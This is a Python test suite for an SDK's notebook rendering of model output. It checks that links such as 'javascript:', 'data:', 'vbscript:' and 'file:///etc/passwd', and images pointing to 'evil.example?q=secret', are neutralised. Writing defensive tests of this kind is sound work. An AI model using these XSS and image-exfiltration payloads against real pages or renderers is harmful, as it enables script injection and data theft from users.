"""A notebook shows what a model wrote: it follows no link but to the web, loads nothing, and runs nothing."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from openrouter_sdk import models

READER = MarkdownIt("commonmark")
# it would refuse such links by itself; others do not
READER.validateLink = lambda url: True  # type: ignore[method-assign]


def shown(text: str) -> str:
    answer: Any = models.ChatResult.from_dict({"choices": [{"message": {"role": "assistant", "content": text}}]})
    written: str = answer._repr_markdown_()
    return written


def links(text: str) -> list[str]:
    """Where what a notebook shows leads to; a picture leads, too."""
    page = READER.render(shown(text))
    assert "<img" not in page
    return re.findall(r'href="([^"]*)"', page)


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a]( JaVaScRiPt:alert(1) 'title')",
        "[a](<javascript:alert(1)>)",
        "[a](\njavascript:alert(1))",
        "[a](java&Tab;script&colon;alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](javascript\\:alert(1))",
        "[a](data:text/html;base64,AAAA)",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
        "[a](/lab/tree/x)",
        "<javascript:alert(1)>",
        "[a]\n\n[a]: javascript:alert(1)",
        "[a][b]\n\n[b]:\n  javascript:alert(1)",
        "> [a]\n>\n> [a]: <javascript:alert(1)>",
        "\\`[a](javascript:alert(1))\\`",
        "- ```\n  a\n  ```\n\n[a](javascript:alert(1))\n",
        "- ```\n  a\n  ```\n\n[a]\n\n[a]:\n javascript:alert(1)\n",
        "~~~`\n~~~\n[a](javascript:alert(1))",
        "![a](https://evil.example/?q=secret)",
        "![a][b]\n\n[b]: https://evil.example/",
        "![b]\n\n[b]: https://evil.example/",
        "[![a](https://evil.example/)](javascript:x)",
        "\\`![a](https://evil.example/)\\`",
        "- ```\n  a\n  ```\n\n![a](https://evil.example/?q=secret)\n",
    ],
)
def test_a_link_that_leads_elsewhere_is_shown_as_it_is_written(text: str) -> None:
    assert [link for link in links(text) if not link.startswith("https://evil.example")] == []


def test_a_link_to_the_web_stays_one() -> None:
    text = "[a](https://a.example/b 'c'), [d](mailto:e@f.example), [g](#h), [i][j]\n\n[j]: http://k.example/"

    assert links(text) == ["https://a.example/b", "mailto:e@f.example", "#h", "http://k.example/"]
    assert shown(text) == text


@pytest.mark.parametrize(
    "code", ["`a[0](x)`", "```python\nif a[1]:\n    print(b[2](c))\n```", "`d['a']: int`", "```rust\nvec![1, 2]\n```"]
)
def test_code_stays_code(code: str) -> None:
    assert shown(code) == code


@pytest.mark.parametrize("command", [r"\href{javascript:alert(1)}{a}", r"\require{html}", r"\csname href\endcsname"])
def test_mathematics_leads_nowhere(command: str) -> None:
    for text in (f"$${command}$$", f"\\`{command}\\`"):
        assert command not in shown(text)
    assert shown(r"$\alpha < \beta$") == r"$\alpha < \beta$"


PIECES = [
    "[a]",
    "(",
    ")",
    "javascript:x",
    "![",
    "]",
    ":",
    "&colon;",
    "\\",
    "`",
    "```",
    "\n",
    " ",
    "- ",
    "> ",
    "<",
    "[a]: ",
]


@given(st.lists(st.sampled_from([*PIECES, "https://e.example/", "$$", "\\href{javascript:x}{a}"]), max_size=14))
def test_no_link_gets_through_wherever_it_stands(pieces: list[str]) -> None:
    for link in links("".join(pieces)):
        assert link.startswith(("https://", "#"))


def test_code_that_never_ends_is_looked_through_for_some_of_its_length_only() -> None:
    text = "".join(f"{'`' * length} a " for length in range(1, 2_000))  # each would be looked for to the end

    assert shown(text) == text


def test_in_code_that_is_too_long_to_be_looked_through_nothing_is_a_tag() -> None:
    code = "`" + "x" * 6_000 + "<img src=x> [a](javascript:x)`"

    assert links(code) == []
